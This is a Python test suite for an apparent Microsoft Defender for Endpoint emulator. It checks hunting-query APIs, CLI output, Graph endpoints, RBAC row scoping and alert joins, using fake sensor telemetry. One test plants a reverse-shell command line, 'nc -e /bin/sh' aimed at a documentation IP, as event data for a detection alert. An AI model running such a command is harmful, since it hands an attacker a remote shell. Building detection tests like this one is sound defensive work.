"""Advanced hunting over the API (MDE's /api/advancedqueries/run and the XDR-style
/api/advancedhunting/run) and `ward hunt`, on telemetry sent through the sensor protocol."""
import csv
import io
import json
import time
import uuid

import pytest

from conftest import WARD, assert_mde_error, run_ward
from sensor_helpers import FakeSensor, onboarding_info, wait_for

PASSWORD = "Correct-Horse-42!"


def hunt(ward, token, query, path="/api/advancedqueries/run"):
    return ward.post(path, token, json={"Query": query})


@pytest.fixture(scope="module")
def fleet(ward, admin_token):
    tag = uuid.uuid4().hex[:8]
    info = onboarding_info(ward, admin_token)
    a = FakeSensor(ward, info, name=f"hunta-{tag}.corp.local")
    b = FakeSensor(ward, info, name=f"huntb-{tag}.corp.local")
    a.enroll()
    b.enroll()
    events_a = [a.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="curl", FolderPath="/usr/bin/curl",
                        ProcessCommandLine=f"curl -s http://x/{tag}/{i}", ProcessId=100 + i, AccountName="alice")
                for i in range(5)]
    events_b = [b.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="Bash", FolderPath="/usr/bin/bash",
                        ProcessCommandLine=f"bash -c 'echo {tag}'", ProcessId=7, AccountName="root")]
    assert a.send(events_a).json()["accepted"] == 5
    assert b.send(events_b).json()["accepted"] == 1

    def visible():
        r = hunt(ward, admin_token, f"DeviceProcessEvents | where ProcessCommandLine has '{tag}' | count")
        return r.status_code == 200 and r.json()["Results"][0]["Count"] == 6
    assert wait_for(visible, 20)
    return {"tag": tag, "a": a, "b": b}


def test_mde_response_shape(ward, admin_token, fleet):
    tag = fleet["tag"]
    r = hunt(ward, admin_token, f"""DeviceProcessEvents
        | where ProcessCommandLine has '{tag}' and FileName =~ 'curl'
        | project Timestamp, DeviceName, ProcessCommandLine, ProcessId
        | sort by ProcessId asc""")
    assert r.status_code == 200, r.text
    body = r.json()
    assert set(body) == {"Schema", "Results"}
    assert body["Schema"] == [{"Name": "Timestamp", "Type": "DateTime"}, {"Name": "DeviceName", "Type": "String"},
                              {"Name": "ProcessCommandLine", "Type": "String"}, {"Name": "ProcessId", "Type": "Int64"}]
    rows = body["Results"]
    assert [row["ProcessId"] for row in rows] == [100, 101, 102, 103, 104]
    assert rows[0]["DeviceName"] == fleet["a"].name and rows[0]["Timestamp"].endswith("Z")


def test_has_is_terms_and_equality_is_case_sensitive(ward, admin_token, fleet):
    tag = fleet["tag"]
    q = f"DeviceProcessEvents | where ProcessCommandLine has '{tag}'"
    assert len(hunt(ward, admin_token, q + " and FileName == 'bash'").json()["Results"]) == 0
    assert len(hunt(ward, admin_token, q + " and FileName =~ 'bash'").json()["Results"]) == 1
    assert len(hunt(ward, admin_token, q + f" and ProcessCommandLine has '{tag[:4]}'").json()["Results"]) == 0
    r = hunt(ward, admin_token, q + " | summarize count() by FileName | sort by count_ desc").json()
    assert r["Schema"] == [{"Name": "FileName", "Type": "String"}, {"Name": "count_", "Type": "Int64"}]
    assert r["Results"] == [{"FileName": "curl", "count_": 5}, {"FileName": "Bash", "count_": 1}]


def test_xdr_variant_has_stats(ward, admin_token, fleet):
    r = hunt(ward, admin_token, f"DeviceProcessEvents | where ProcessCommandLine has '{fleet['tag']}' | take 2",
             "/api/advancedhunting/run")
    assert r.status_code == 200, r.text
    body = r.json()
    assert "Stats" in body and body["Stats"]["ExecutionTime"] >= 0 and len(body["Results"]) == 2
    assert body["Stats"]["dataset_statistics"][0]["table_row_count"] >= 2


def test_errors(ward, admin_token):
    r = hunt(ward, admin_token, "DeviceProcessEvents | where NoSuchColumn == 1")
    assert_mde_error(r, 400, "BadRequest")
    assert "Failed to resolve scalar expression named 'NoSuchColumn'" in r.json()["error"]["message"]
    r = hunt(ward, admin_token, "DeviceProcessEvents | where (")
    assert_mde_error(r, 400, "BadRequest")
    assert "line" in r.json()["error"]["message"]
    assert_mde_error(hunt(ward, admin_token, "NoSuchTable | take 1"), 400, "BadRequest")
    assert_mde_error(ward.post("/api/advancedqueries/run", admin_token, json={"query": "x"}), 400,
                     "MissingRequiredParameter")
    assert_mde_error(ward.post("/api/advancedqueries/run", admin_token, json={"Query": 5}), 400, "InvalidRequestBody")


def test_scoped_user_sees_only_rows_of_their_devices(ward, admin_token, fleet):
    tag = fleet["tag"]

    def api(method, path, body):
        r = ward.request(method, path, admin_token, json=body)
        assert r.status_code in (200, 201), r.text
        return r.json()
    user = api("POST", "/api/users", {"userPrincipalName": f"hunter-{tag}@corp.example", "password": PASSWORD})
    group = api("POST", "/api/rbac/usergroups", {"name": f"hunters-{tag}", "members": [user["id"]]})
    api("POST", "/api/rbac/roles", {"name": f"hunter-{tag}", "permissions": ["ViewData"],
                                     "assignedUserGroups": [group["id"]]})
    others = api("POST", "/api/rbac/usergroups", {"name": f"others-{tag}", "members": []})
    api("POST", "/api/rbac/devicegroups", {"name": f"hunt-A-{tag}", "rank": 1, "rules": {"name": [f"hunta-{tag}*"]},
                                            "userGroups": [group["id"]]})
    api("POST", "/api/rbac/devicegroups", {"name": f"hunt-B-{tag}", "rank": 2, "rules": {"name": [f"huntb-{tag}*"]},
                                            "userGroups": [others["id"]]})
    token = ward.user_token(user["userPrincipalName"], PASSWORD)
    rows = hunt(ward, token, f"DeviceProcessEvents | where ProcessCommandLine has '{tag}' | project DeviceId").json()
    assert {r["DeviceId"] for r in rows["Results"]} == {fleet["a"].device_id}
    # Joins and unions cannot reach around the scope either.
    q = f"union DeviceProcessEvents, DeviceNetworkEvents | where DeviceId == '{fleet['b'].device_id}' | count"
    assert hunt(ward, token, q).json()["Results"][0]["Count"] == 0


def test_alerts_are_huntable(ward, admin_token, fleet):
    ev = fleet["a"].event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                          ProcessCommandLine=f"nc -e /bin/sh 203.0.113.9 4444 {fleet['tag']}", ProcessId=999)
    assert fleet["a"].send([ev]).json()["accepted"] == 1
    assert wait_for(lambda: hunt(ward, admin_token, f"DeviceProcessEvents | where ProcessId == 999 and "
                                                    f"ProcessCommandLine has '{fleet['tag']}'").json()["Results"], 20)
    title = f"Reverse shell {fleet['tag']}"
    r = ward.post("/api/alerts/CreateAlertByReference", admin_token, json={
        "eventTime": ev["Timestamp"], "reportId": ev["ReportId"], "machineId": fleet["a"].device_id, "severity": "High",
        "title": title, "description": "d", "recommendedAction": "r", "category": "Execution"})
    assert r.status_code == 200, r.text
    alert_id = r.json()["id"]
    q = f"""AlertInfo | where AlertId == '{alert_id}'
        | join kind=inner (AlertEvidence | where EntityType == 'Process') on AlertId
        | project AlertId, Title, Severity, ProcessCommandLine"""
    found = wait_for(lambda: hunt(ward, admin_token, q).json()["Results"], 20)
    assert found and found[0]["Title"] == title and found[0]["Severity"] == "High"
    assert fleet["tag"] in found[0]["ProcessCommandLine"]


def test_ward_hunt_cli(ward, admin_token, fleet):
    tag = fleet["tag"]
    q = (f"DeviceProcessEvents | where ProcessCommandLine has '{tag}' and ProcessId != 999"
         " | summarize n=count() by FileName | sort by n desc")
    out = run_ward("hunt", q, "--data-dir", ward.data_dir, "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [["FileName", "n"], ["curl", "5"], ["Bash", "1"]]
    table = run_ward("hunt", q, "--data-dir", ward.data_dir).stdout
    assert "FileName" in table and "curl" in table and "(2 rows)" in table
    remote = run_ward("hunt", q, "--server", ward.base, "--tenant", ward.tenant, "--client-id", ward.creds["clientId"],
                      "--client-secret", ward.creds["clientSecret"], "--ca", ward.ca, "--format", "json").stdout
    assert json.loads(remote)["Results"] == [{"FileName": "curl", "n": 5}, {"FileName": "Bash", "n": 1}]
    bad = run_ward("hunt", "DeviceProcessEvents | where Nope == 1", "--data-dir", ward.data_dir, check=False)
    assert bad.returncode == 1 and "Failed to resolve" in bad.stderr


def test_graph_run_hunting_query(ward, admin_token, fleet):
    """Microsoft Graph's POST /v1.0/security/runHuntingQuery: lower-case keys, optional Timespan."""
    tag = fleet["tag"]
    query = (f"DeviceProcessEvents | where ProcessCommandLine has '{tag}' and FileName in ('Bash', 'curl')"
             " | summarize n = count() by FileName | sort by FileName asc")
    for path in ("/v1.0/security/runHuntingQuery", "/beta/security/runHuntingQuery"):
        r = ward.post(path, admin_token, json={"Query": query})
        assert r.status_code == 200, r.text
        body = r.json()
        assert body["@odata.context"].endswith("$metadata#microsoft.graph.security.huntingQueryResults")
        assert body["schema"] == [{"name": "FileName", "type": "String"}, {"name": "n", "type": "Int64"}]
        assert body["results"] == [{"FileName": "Bash", "n": 1}, {"FileName": "curl", "n": 5}]
    # Timespan narrows the rows the query sees: the events were sent just now.
    def count(span):
        r = ward.post("/v1.0/security/runHuntingQuery", admin_token, json={"Query": query, "Timespan": span})
        assert r.status_code == 200, r.text
        return sum(row["n"] for row in r.json()["results"])
    # FakeSensor stamps events up to a second ahead of the clock: windows end an hour from now.
    ahead = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() + 3600))
    assert count(f"P1D/{ahead}") == 6
    assert count(f"2000-01-01T00:00:00Z/{ahead}") == 6
    assert count("2000-01-01T00:00:00Z/2000-01-02T00:00:00Z") == 0
    assert count("P1D/2000-01-02T00:00:00Z") == 0
    assert_mde_error(ward.post("/v1.0/security/runHuntingQuery", admin_token, json={"Query": query, "Timespan": "P1M"}),
                     400, "BadRequest")
    assert_mde_error(ward.post("/v1.0/security/runHuntingQuery", admin_token, json={"Query": query, "Timespan": 30}),
                     400, "InvalidRequestBody")
    assert ward.post("/v1.0/security/runHuntingQuery", json={"Query": query}).status_code == 401
